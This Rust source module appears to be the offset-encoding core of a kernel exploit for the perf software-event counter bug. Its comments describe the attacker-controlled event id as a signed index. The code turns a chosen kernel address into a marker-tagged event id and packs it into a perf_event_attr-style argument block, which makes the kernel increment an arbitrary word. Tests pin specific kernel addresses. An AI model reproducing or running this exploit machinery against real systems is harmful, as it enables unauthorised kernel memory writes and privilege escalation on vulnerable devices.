//! Offset encoding for the counting call.
//!
//! The kernel uses the (attacker controlled) event id as a signed index into an array of
//! 32-bit counters starting at the fixed counter address. This module turns a target
//! address into that index and packs it into the argument block of the call.

use serde::{Deserialize, Serialize};
use std::fmt::{self, Debug, Display, Formatter};
use std::num::ParseIntError;

use crate::util::{ATTR_FLAGS, ATTR_HEADER, ATTR_WORDS, INCREMENT_MARKER, WORD_SIZE};

#[repr(transparent)]
#[derive(Clone, Copy, Default, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(try_from = "AddrRepr")]
/// Kernel virtual address.
///
/// A newtype wrapper around a machine word address value.
pub struct KernelAddr(u64);

impl KernelAddr {
    /// Creates a new kernel address.
    pub const fn new(addr: u64) -> Self {
        KernelAddr(addr)
    }

    /// Returns the address as a u64.
    pub fn as_u64(&self) -> u64 {
        self.0
    }
}

impl Debug for KernelAddr {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        f.write_fmt(format_args!("KernelAddr(0x{:08x})", self.0))
    }
}

impl Display for KernelAddr {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        write!(f, "0x{:08x}", self.0)
    }
}

impl From<u64> for KernelAddr {
    fn from(value: u64) -> Self {
        KernelAddr(value)
    }
}

/// Address as written in a target table: either a plain number or a `0x` prefixed string.
#[derive(Deserialize)]
#[serde(untagged)]
enum AddrRepr {
    Number(u64),
    Hex(String),
}

impl TryFrom<AddrRepr> for KernelAddr {
    type Error = String;

    fn try_from(value: AddrRepr) -> Result<Self, Self::Error> {
        match value {
            AddrRepr::Number(n) => Ok(KernelAddr(n)),
            AddrRepr::Hex(s) => {
                let digits = s
                    .strip_prefix("0x")
                    .or_else(|| s.strip_prefix("0X"))
                    .ok_or_else(|| format!("address {:?} lacks the 0x prefix", s))?;
                u64::from_str_radix(digits, 16)
                    .map(KernelAddr)
                    .map_err(|e: ParseIntError| format!("address {:?}: {}", s, e))
            }
        }
    }
}

/// Encoded event id selecting the word to increment.
///
/// Holds the signed word distance from the counter address to the target, truncated
/// to 32 bits, with [`INCREMENT_MARKER`] or'ed in.
#[repr(transparent)]
#[derive(Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub struct EncodedOffset(u32);

impl EncodedOffset {
    /// Encodes the offset from `counter` to `target`.
    ///
    /// The byte distance wraps at 32 bits and is divided by the word size with
    /// truncation toward zero, so a target that is not word aligned relative to the
    /// counter lands on the word closer to the counter. The published counter
    /// addresses were measured against exactly this rounding.
    ///
    /// # Examples
    ///
    /// ```
    /// use swevent_core::offset::{EncodedOffset, KernelAddr};
    ///
    /// let base = KernelAddr::new(0xc09882f4);
    /// assert_eq!(EncodedOffset::encode(base, base).as_u32(), 0x8000_0000);
    /// ```
    pub fn encode(counter: KernelAddr, target: KernelAddr) -> Self {
        let distance = target.0.wrapping_sub(counter.0) as u32 as i32;
        let words = distance / WORD_SIZE as i32;
        EncodedOffset(words as u32 | INCREMENT_MARKER)
    }

    /// Wraps an event id that is already encoded.
    pub fn from_raw(raw: u32) -> Self {
        EncodedOffset(raw)
    }

    /// Returns the raw event id.
    pub fn as_u32(&self) -> u32 {
        self.0
    }
}

impl Debug for EncodedOffset {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        f.write_fmt(format_args!("EncodedOffset(0x{:08x})", self.0))
    }
}

/// Argument block handed to the counting call.
///
/// Mirrors the leading part of `struct perf_event_attr` for a software event with the
/// encoded offset as its config. Only the words the kernel looks at are filled in.
#[repr(C)]
#[derive(Clone, PartialEq, Eq)]
pub struct SweventAttr {
    words: [u64; ATTR_WORDS],
}

impl SweventAttr {
    /// Packs `offset` into a fresh argument block.
    pub fn new(offset: EncodedOffset) -> Self {
        let mut words = [0u64; ATTR_WORDS];
        words[0] = ATTR_HEADER;
        // zero extended: the kernel narrows config back to a signed int itself
        words[1] = offset.as_u32() as u64;
        words[5] = ATTR_FLAGS;
        SweventAttr { words }
    }

    /// Returns the encoded offset stored in the block.
    pub fn offset(&self) -> EncodedOffset {
        EncodedOffset(self.words[1] as u32)
    }

    /// Returns the packed words.
    pub fn words(&self) -> &[u64; ATTR_WORDS] {
        &self.words
    }

    /// Returns a pointer suitable for passing to the system call.
    pub fn as_ptr(&self) -> *const libc::c_void {
        self.words.as_ptr() as *const libc::c_void
    }
}

impl Debug for SweventAttr {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        f.debug_struct("SweventAttr")
            .field("offset", &self.offset())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: KernelAddr = KernelAddr::new(0xc09882f4);

    fn encode(target: u64) -> u32 {
        EncodedOffset::encode(BASE, KernelAddr::new(target)).as_u32()
    }

    #[test]
    fn test_encode_zero_offset() {
        assert_eq!(EncodedOffset::encode(BASE, BASE).as_u32(), INCREMENT_MARKER);
    }

    #[test]
    fn test_encode_forward_and_backward() {
        assert_eq!(encode(0xc09882f4 + 8), 0x8000_0002);
        assert_eq!(encode(0xc09882f4 + 0x1000), 0x8000_0400);
        // negative distances already carry the marker bit
        assert_eq!(encode(0xc09882f4 - 4), 0xffff_ffff);
        assert_eq!(encode(0xc09882f4 - 0x100), (-0x40i32) as u32);
    }

    #[test]
    fn test_encode_truncates_toward_zero() {
        assert_eq!(encode(0xc09882f4 + 7), 0x8000_0001);
        assert_eq!(encode(0xc09882f4 + 3), INCREMENT_MARKER);
        assert_eq!(encode(0xc09882f4 - 3), INCREMENT_MARKER);
        assert_eq!(encode(0xc09882f4 - 7), 0xffff_ffff);
    }

    #[test]
    fn test_encode_wraps_at_32_bits() {
        // a user space target below the kernel counter
        let high = EncodedOffset::encode(BASE, KernelAddr::new(0x1_0000_1000));
        assert_eq!(encode(0x0000_1000), high.as_u32());
        let expected = (0x1000u32.wrapping_sub(0xc09882f4) as i32) / 4;
        assert_eq!(encode(0x0000_1000), expected as u32 | INCREMENT_MARKER);
    }

    #[test]
    fn test_attr_layout() {
        let offset = EncodedOffset::encode(BASE, KernelAddr::new(0xc09882f4 - 4));
        let attr = SweventAttr::new(offset);
        let words = attr.words();
        assert_eq!(words.len(), 10);
        assert_eq!(words[0], 0x48_0000_0001);
        assert_eq!(words[1], 0xffff_ffff);
        assert_eq!(words[5], 0x300);
        assert!(words[2..5].iter().chain(&words[6..]).all(|w| *w == 0));
        assert_eq!(attr.offset(), offset);
    }

    #[test]
    fn test_addr_from_json() -> anyhow::Result<()> {
        let addrs: Vec<KernelAddr> =
            serde_json::from_str(r#"["0xc0d07a7c", "0XC06DB714", 4096]"#)?;
        assert_eq!(
            addrs,
            vec![
                KernelAddr::new(0xc0d07a7c),
                KernelAddr::new(0xc06db714),
                KernelAddr::new(4096)
            ]
        );
        assert!(serde_json::from_str::<KernelAddr>(r#""0xzz""#).is_err());
        // a bare string is neither a number nor an unambiguous hex address
        assert!(serde_json::from_str::<KernelAddr>(r#""4096""#).is_err());
        assert!(serde_json::from_str::<KernelAddr>(r#""C06DB714""#).is_err());
        Ok(())
    }
}
